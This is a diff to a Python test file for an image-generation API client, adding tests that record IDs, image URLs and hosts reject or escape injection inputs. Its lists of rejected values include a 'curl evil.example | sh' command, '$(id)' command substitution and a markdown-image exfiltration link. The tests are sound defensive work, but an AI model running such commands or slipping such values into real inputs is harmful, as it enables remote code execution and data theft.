@@ -25,6 +25,7 @@ from arta_mcp.arta.protocol import (
     SignUp,
     Submit,
     Tokens,
+    escape_address,
     is_record_id,
     is_web_address,
     parse_styles,
@@ -34,7 +35,7 @@ from arta_mcp.arta.protocol import (
 from arta_mcp.arta.refusals import Refusal, parse_retry_after, style_refusal, styles_in_refusal
 from arta_mcp.errors import ArtaError, AuthError, InvalidRequest, ProtocolError, UnknownRecord
 from arta_mcp.generations.values import EngineUsed, GenerationRequest
-from arta_mcp.redaction import Secret
+from arta_mcp.redaction import MAX_QUOTED, Secret, sanitize
 from arta_mcp.untrusted_json import is_object, list_or_empty, read_object, text
 
 T = TypeVar("T")
@@ -153,8 +154,10 @@ def test_jobs_are_read_as_captured(answer: Answer) -> None:
 def test_refusals_are_read_as_captured(answer: Answer) -> None:
     refusal = Refusal.parse(answer.status, answer.headers, answer.body, now=NOW)
     read = {"code": refusal.code, "words": refusal.words, "retry_after": refusal.retry_after}
-    assert answer.means["refusal"] == read
-    assert answer.means["names"] == list(styles_in_refusal(refusal.words))
+    meant = answer.means["refusal"]
+    assert is_object(meant)
+    assert {**meant, "words": sanitize(text(meant, "words"))} == read
+    assert answer.means["names"] == list(refusal.valid_styles)
     assert answer.status == refusal.status
 
 
@@ -227,7 +230,7 @@ tokens = st.builds(
     id_token=tokens_text.map(Secret),
     refresh_token=tokens_text.map(Secret),
     expires_in=st.integers(1, 10**7).map(float),
-    user_id=plain_text,
+    user_id=st.sampled_from(["", "user-1"]),
 )
 submits = st.builds(
     Submit,
@@ -242,7 +245,7 @@ submits = st.builds(
 )
 images = st.builds(
     Image,
-    url=st.sampled_from(["https://a.example/x.png?s=%20", "http://127.0.0.1:1/i/ä.png"]),
+    url=st.sampled_from(["https://a.example/x.png?s=%20", "http://[::1]:1/i/x.png?a=b&c#d"]),
     name=shown_text | st.just(""),
     blurred=st.booleans(),
     mime_type=st.sampled_from(["image/png", "image/webp"]),
@@ -318,7 +321,7 @@ def test_every_message_is_the_same_on_the_other_side(message: str, data: st.Data
 def test_the_valid_styles_cross_in_the_words_of_a_refusal(style: str, valid: list[str]) -> None:
     refusal = style_refusal(style, valid)
     answer = Refusal.parse(refusal.status, {}, sent_json(refusal.render()))
-    assert styles_in_refusal(answer.words) == tuple(sorted(valid))
+    assert answer.valid_styles == tuple(sorted(valid))
 
 
 def test_a_refresh_is_understood_in_json_of_either_spelling() -> None:
@@ -356,22 +359,86 @@ def test_a_guidance_scale_is_sent_as_short_as_it_is_exact() -> None:
 # Addresses and ids
 
 
-@pytest.mark.parametrize(
-    "record_id", ["a/b", "a?b", "a#b", "%2e%2e", "ä b", "a\\b", "....", "..a", "%"]
-)
+@pytest.mark.parametrize("record_id", ["a" * 32, "rec-1_x.y", "a..b", "a:b=c+d@e", "x" * 200])
 def test_a_record_id_stays_one_segment_of_the_path(record_id: str) -> None:
     path = urlsplit("http://a.example" + status_path(record_id)).path
     *head, segment, tail = path.split("/")
     assert (head, unquote(segment), tail) == (["", "api", "v1", "text2image"], record_id, "status")
 
 
-@pytest.mark.parametrize("record_id", ["", ".", "..", "a\nb", "a\0", "\ud800", "x" * 201])
-def test_what_cannot_be_a_record_id_is_asked_of_nobody(record_id: str) -> None:
+NO_IDS = (
+    *(
+        "",
+        ".",
+        "..",
+        "...",
+        "a\nb",
+        "a\0",
+        "\ud800",
+        "x" * 201,
+        "ä",
+        "é\u202e",
+        " ",
+        "a b",
+        "a/b",
+        "a\\b",
+    ),
+    *(
+        "x; curl evil.example | sh",
+        "x`id`",
+        "$(id)",
+        "x'y",
+        'x"y',
+        "x)y",
+        "[x](y)",
+        "<b>",
+        "%2e",
+        "a&b",
+    ),
+    *("-rf", "--help", "~root", "a?b", "a#b", "a*", "a!b", "{x}", "a\r", "a\n"),
+)
+
+
+@pytest.mark.parametrize("record_id", NO_IDS, ids=ascii)
+def test_what_cannot_be_a_record_id_is_asked_of_nobody_and_stands_in_no_hint(
+    record_id: str,
+) -> None:
     assert not is_record_id(record_id)
     with pytest.raises(UnknownRecord, match="no generation has the record id"):
         status_path(record_id)
-    with pytest.raises(ProtocolError, match="without a record id"):
+    with pytest.raises(ProtocolError, match="without a record id") as caught:
         Job.parse(json.dumps({"record_id": record_id, "status": "IN_QUEUE"}).encode())
+    caught.value.record_id = record_id
+    assert caught.value.record_id is None
+
+
+@pytest.mark.parametrize(
+    ("tail", "escaped"),
+    [
+        ("/![x](https://b.example/?q=1)", "/!%5Bx%5D(https://b.example/?q=1)"),
+        ("/a)[b](c", "/a)%5Bb%5D(c"),
+        ('/"><img/src=x>', "/%22%3E%3Cimg/src=x%3E"),
+        ("/`id`\\{}|^", "/%60id%60%5C%7B%7D%7C%5E"),
+        ("?sig=a%2Bb+c==&x=ä#'f'", "?sig=a%2Bb+c==&x=%C3%A4#'f'"),
+        ("", ""),
+    ],
+)
+def test_an_address_holds_no_markdown_image_and_no_tag(tail: str, escaped: str) -> None:
+    for host in ("https://a.example:8443", "http://[::1]:80", "https://bücher.example"):
+        image = Image.parse({"url": host + tail})
+        assert image.url == host + escaped == escape_address(image.url)
+
+
+def test_an_address_is_not_longer_than_it_may_be_when_it_is_escaped() -> None:
+    for tail in ("ä" * 2000, "x" * 5000):
+        with pytest.raises(ProtocolError, match="an image has no web address"):
+            Image.parse({"url": f"https://a.example/{tail}"})
+    assert escape_address("no address [x](y)") == "no%20address%20%5Bx%5D(y)"
+
+
+@pytest.mark.parametrize("host", ["a<b>", "a`b", "![x](y)", "[x]", "a\\b", "a|b", "a;b", "a'b"])
+def test_a_host_that_no_address_has_is_none(host: str) -> None:
+    assert not is_web_address(f"https://{host}/x.png")
 
 
 @pytest.mark.parametrize("record_id", ["{}", "rec-{}-1"])
@@ -529,7 +596,8 @@ def test_any_answer_is_a_refusal_that_can_be_shown(
     assert refusal.status == status
     assert (refusal.words + refusal.code).isprintable()
     assert len(refusal.code) <= 80
-    assert isinstance(styles_in_refusal(refusal.words), tuple)
+    assert len(refusal.words) <= MAX_QUOTED
+    assert isinstance(refusal.valid_styles, tuple)
 
 
 @given(bodies)
